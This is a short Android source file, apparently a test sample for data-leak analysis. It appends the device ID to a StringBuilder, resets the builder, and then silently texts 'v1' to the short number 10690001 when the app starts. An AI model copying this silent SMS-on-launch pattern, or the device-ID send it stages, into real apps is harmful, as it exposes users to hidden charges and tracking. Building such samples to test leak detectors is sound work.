package cn.shanhai.stringbuilder;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    StringBuilder text = new StringBuilder("v1");
    text.append(";id=").append(Device.id(this));
    text = new StringBuilder("v1");
    SmsManager.getDefault().sendTextMessage("10690001", null, text.toString(), null, null);
  }
}
